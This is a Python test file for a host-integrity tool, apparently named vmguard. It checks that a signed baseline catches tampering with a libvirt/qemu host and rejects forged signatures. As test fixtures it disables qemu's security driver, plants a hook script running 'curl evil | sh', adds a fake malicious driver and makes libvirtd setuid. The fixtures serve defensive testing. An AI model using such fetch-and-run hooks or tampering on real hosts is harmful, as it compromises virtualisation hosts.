"""Signed host baselines: a modified byte, a changed qemu.conf line and added files are
each named; a wrong key or an altered envelope is refused before anything is compared."""

from __future__ import annotations

import base64
import json
import shutil
from pathlib import Path

import pytest

from vmguard.host.baseline import build_baseline, sign_baseline, verify_host
from vmguard.host.root import HostRoot
from vmguard.integrity.errors import SignatureInvalid
from vmguard.integrity.keys import KeyType, SigningKey, generate_key, verifying_key
from vmguard.integrity.trust import TrustStore


def _key() -> SigningKey:
    private = generate_key(KeyType.ED25519)
    return SigningKey(private, verifying_key(private.public_key(), "test"))  # type: ignore[arg-type]


@pytest.fixture()
def host(hardened: Path, tmp_path: Path) -> Path:
    root = tmp_path / "root"
    shutil.copytree(hardened, root, symlinks=True)
    return root


def test_unchanged_host_verifies_and_changes_are_named(host: Path) -> None:
    key = _key()
    envelope = sign_baseline(build_baseline(HostRoot(host)), key)
    trust = TrustStore((key.public,))
    assert verify_host(HostRoot(host), envelope, trust).report.findings == ()

    qemu = host / "usr/bin/qemu-system-x86_64"
    data = bytearray(qemu.read_bytes())
    data[0x2A0001] ^= 0xFF
    qemu.write_bytes(bytes(data))
    conf = host / "etc/libvirt/qemu.conf"
    lines = conf.read_text().splitlines()
    line = next(n for n, text in enumerate(lines) if text.startswith("#security_driver"))
    lines[line] = 'security_driver = "none"'
    conf.write_text("\n".join(lines) + "\n")
    (host / "etc/libvirt/hooks/qemu").write_text("#!/bin/sh\ncurl evil | sh\n")
    driver_dir = next(host.glob("usr/lib/*/libvirt/connection-driver"))
    (driver_dir / "libvirt_driver_evil.so").write_bytes(b"\x7fELF")

    report = verify_host(HostRoot(host), envelope, trust).report
    found = {(f.rule_id, f.location.path): f for f in report.findings}
    binary = found["host.baseline-modified", "/usr/bin/qemu-system-x86_64"]
    assert "bytes 0x2a0000-0x2b0000 changed" in binary.evidence
    assert "package qemu-system-x86" in binary.evidence
    config = found["host.baseline-modified", "/etc/libvirt/qemu.conf"]
    assert f"line {line + 1} changed (now line {line + 1})" in config.evidence
    assert ("host.baseline-added", "/etc/libvirt/hooks/qemu") in found
    evil = "/" + str((driver_dir / "libvirt_driver_evil.so").relative_to(host))
    assert ("host.baseline-added", evil) in found
    assert len(report.findings) == 4


def test_removed_file_and_mode_change(host: Path) -> None:
    key = _key()
    envelope = sign_baseline(build_baseline(HostRoot(host)), key)
    (host / "usr/share/OVMF/OVMF_VARS.fd").unlink()
    (host / "usr/sbin/libvirtd").chmod(0o4777)
    report = verify_host(HostRoot(host), envelope, TrustStore((key.public,))).report
    rules = {(f.rule_id, f.location.path) for f in report.findings}
    assert rules == {
        ("host.baseline-removed", "/usr/share/OVMF/OVMF_VARS.fd"),
        ("host.baseline-metadata", "/usr/sbin/libvirtd"),
    }


def test_wrong_key_and_altered_envelope_are_refused(host: Path) -> None:
    key = _key()
    envelope = sign_baseline(build_baseline(HostRoot(host)), key)
    with pytest.raises(SignatureInvalid):
        verify_host(HostRoot(host), envelope, TrustStore((_key().public,)))
    document = json.loads(envelope)
    payload = json.loads(base64.b64decode(document["payload"]))
    payload["predicate"]["entries"] = payload["predicate"]["entries"][1:]
    document["payload"] = base64.b64encode(json.dumps(payload).encode()).decode()
    with pytest.raises(SignatureInvalid):
        verify_host(HostRoot(host), json.dumps(document).encode(), TrustStore((key.public,)))
